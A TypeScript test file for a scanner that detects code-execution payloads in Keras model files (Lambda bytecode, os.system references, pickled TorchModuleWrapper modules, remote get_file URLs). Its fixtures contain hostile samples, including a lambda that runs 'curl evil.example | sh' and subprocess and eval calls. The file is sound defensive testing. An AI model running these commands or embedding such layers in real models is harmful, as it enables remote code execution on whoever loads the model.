import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decodeLambdaCode } from '../../../main/core/scan/formats/keras/marshal.ts';
import { buildHdf5 } from './fixtures/hdf5.ts';
import { dense, functionLambda, keras2LambdaModel, keras2Sequential, lambdaLayer, sequential, zipKeras } from './fixtures/keras.ts';
import { maliciousPickle, marshalLambda } from './fixtures/python.ts';
import { analyzersWithZip, only, scan } from './fixtures/scan.ts';

const json = (v: unknown) => new TextEncoder().encode(JSON.stringify(v, null, 2));
const METADATA = JSON.stringify({ keras_version: '3.5.0', date_saved: '2024-09-01@12:00:00' });

test('an ordinary Keras 3 config.json is clean', async () => {
  const r = await scan(json(sequential([dense('dense', 8), dense('dense_1', 3)])), 'config.json');
  assert.equal(r.format, 'json');
  assert.deepEqual(r.findings, []);
  assert.equal(r.verdict, 'clean');
  assert.deepEqual((r.units[0]!.details.json as { kinds: string[] }).kinds, ['keras-config']);
});

test('a Lambda layer with marshalled bytecode is malicious and its names are decoded', async () => {
  const code = marshalLambda("lambda x: __import__('os').system('curl evil.example | sh') or x");
  const r = await scan(json(sequential([dense('dense', 8), lambdaLayer('exfil', code)])), 'config.json');
  assert.equal(r.verdict, 'malicious');
  const [f] = only(r, 'scan.keras.lambda-code');
  assert.equal(f!.severity, 'critical');
  assert.equal(f!.location.jsonPath, '$.config.layers[2].config.function.config.code');
  assert.match(f!.message, /Lambda layer "exfil" carries \d+ bytes of marshalled Python bytecode referencing .*__import__.*system/);
  assert.ok((f!.evidence?.dangerous as string[]).includes('__import__'));
  assert.ok((f!.evidence?.strings as string[]).includes('curl evil.example | sh'));
});

test('an innocent-looking lambda is still code execution (high), without dangerous names', async () => {
  const code = marshalLambda('lambda x: x * 2.0');
  const decoded = decodeLambdaCode(code)!;
  assert.equal(decoded.isCode, true);
  assert.deepEqual(decoded.dangerous, []);
  const r = await scan(json(sequential([lambdaLayer('double', code)])), 'config.json');
  const [f] = only(r, 'scan.keras.lambda-code');
  assert.equal(f!.severity, 'high');
  assert.equal(r.verdict, 'malicious');
});

test('a Lambda whose function is os.system by module reference is critical', async () => {
  const r = await scan(json(sequential([functionLambda('shell', 'os', 'system')])), 'config.json');
  const [f] = only(r, 'scan.keras.external-module');
  assert.equal(f!.severity, 'critical');
  assert.equal(f!.location.jsonPath, '$.config.layers[1].config.function.module');
  assert.match(f!.message, /makes the loader import os and use os\.system/);
  assert.equal(r.verdict, 'malicious');
});

test('modules inside keras, tensorflow, numpy and math are allowed; others need review', async () => {
  let r = await scan(json(sequential([functionLambda('act', 'keras.activations', 'relu'), functionLambda('sq', 'numpy', 'sqrt'), functionLambda('m', 'math', 'tanh')])), 'config.json');
  assert.deepEqual(r.findings, []);
  r = await scan(json(sequential([functionLambda('custom', 'my_project.layers', 'swish')])), 'config.json');
  const [f] = only(r, 'scan.keras.external-module');
  assert.equal(f!.severity, 'medium');
  assert.equal(r.verdict, 'suspicious');
});

test('registered custom objects are reported; built-in registered names are not', async () => {
  const custom = { module: null, class_name: 'MyAttention', registered_name: 'MyPackage>MyAttention', config: { name: 'attn', heads: 4 } };
  let r = await scan(json(sequential([dense('d', 4), custom])), 'config.json');
  const [f] = only(r, 'scan.keras.custom-object');
  assert.equal(f!.location.jsonPath, '$.config.layers[2].registered_name');
  assert.match(f!.message, /registered custom object "MyPackage>MyAttention"/);
  // Keras writes registered_name equal to the class for its own classes (e.g. Functional).
  const functional = { ...sequential([dense('d', 4)]), module: 'keras.src.models.functional', class_name: 'Functional', registered_name: 'Functional' };
  r = await scan(json(functional), 'config.json');
  assert.deepEqual(r.findings, []);
  // KerasHub presets reference their own registered classes.
  const hub = { module: 'keras_hub.src.models.gemma.gemma_backbone', class_name: 'GemmaBackbone', registered_name: 'keras_hub>GemmaBackbone', config: { name: 'gemma_backbone', vocabulary_size: 256000 } };
  r = await scan(json(hub), 'config.json');
  assert.deepEqual(r.findings, []);
});

test('get_file references and URLs are remote-file findings', async () => {
  let r = await scan(json(sequential([functionLambda('dl', 'keras.utils', 'get_file')])), 'config.json');
  assert.match(only(r, 'scan.keras.remote-file')[0]!.message, /calls get_file/);
  const withUrl = sequential([{ ...dense('d', 4), config: { ...(dense('d', 4).config as object), origin: 'https://evil.example/weights.bin' } }]);
  r = await scan(json(withUrl), 'config.json');
  const [f] = only(r, 'scan.keras.remote-file');
  assert.equal(f!.location.jsonPath, '$.config.layers[1].config.origin');
});

test('TorchModuleWrapper is reported and its pickled module is scanned as a nested unit', async () => {
  const payload = Buffer.from(maliciousPickle('id')).toString('base64');
  const wrapper = { module: 'keras.layers', class_name: 'TorchModuleWrapper', registered_name: null, config: { name: 'torch_module_wrapper', module: payload } };
  const r = await scan(json(sequential([wrapper])), 'config.json');
  const [f] = only(r, 'scan.keras.torch-module-wrapper');
  assert.match(f!.message, /stores a pickled PyTorch module \(\d+ bytes, scanned as a nested unit\)/);
  assert.equal(r.verdict, 'malicious');
  const nested = r.units.find((u) => u.path === 'torch_module_wrapper.module');
  assert.equal(nested?.format, 'pickle');
  assert.deepEqual(only(r, 'scan.keras.external-module'), [], 'the payload is not mistaken for a module name');
});

test('a .keras archive: config.json reaches the JSON analyzer and the weights the HDF5 analyzer by content', async () => {
  const code = marshalLambda("lambda x: __import__('subprocess').check_output(['id'])");
  const evil = await zipKeras({ 'metadata.json': METADATA, 'config.json': JSON.stringify(sequential([lambdaLayer('lambda', code)])), 'model.weights.h5': buildHdf5([]) });
  let r = await scan(evil, 'model.keras', analyzersWithZip());
  assert.equal(r.format, 'keras-v3');
  assert.equal(r.verdict, 'malicious');
  const [f] = only(r, 'scan.keras.lambda-code');
  assert.deepEqual(f!.location.members, ['config.json']);
  assert.equal(r.units.find((u) => u.path === 'model.weights.h5')?.format, 'hdf5');

  const benign = await zipKeras({ 'metadata.json': METADATA, 'config.json': JSON.stringify(sequential([dense('d', 3)])), 'model.weights.h5': buildHdf5([]) });
  r = await scan(benign, 'model.keras', analyzersWithZip());
  assert.deepEqual(r.findings, []);
  assert.equal(r.verdict, 'clean');
  assert.deepEqual(r.units.map((u) => [u.path, u.format]), [['', 'keras-v3'], ['metadata.json', 'json'], ['config.json', 'json'], ['model.weights.h5', 'hdf5']]);
});

test('Keras 2 .h5 models: the model_config attribute is checked like config.json', async () => {
  const code = marshalLambda("lambda x: eval('1')");
  const evil = buildHdf5([{ name: 'keras_version', value: '2.15.0' }, { name: 'backend', value: 'tensorflow' }, { name: 'model_config', value: JSON.stringify(keras2LambdaModel(code)) }]);
  let r = await scan(evil, 'model.h5');
  assert.equal(r.format, 'hdf5');
  assert.equal(r.verdict, 'malicious');
  const [f] = only(r, 'scan.keras.lambda-code');
  assert.equal(f!.location.jsonPath, '$.model_config.config.layers[1].config.function');
  assert.equal(typeof f!.location.byteOffset, 'number');
  assert.match(f!.message, /reaches eval/);
  assert.deepEqual(only(r, 'scan.keras.external-module'), [], 'the lambda\'s own __main__ module is not reported twice');

  r = await scan(buildHdf5([{ name: 'keras_version', value: '2.15.0', vlen: true }, { name: 'model_config', value: JSON.stringify(keras2Sequential()), vlen: true }]), 'model.h5');
  assert.deepEqual(r.findings, []);
  assert.deepEqual((r.units[0]!.details.hdf5 as { jsonAttributes: string[] }).jsonAttributes, ['model_config']);
});
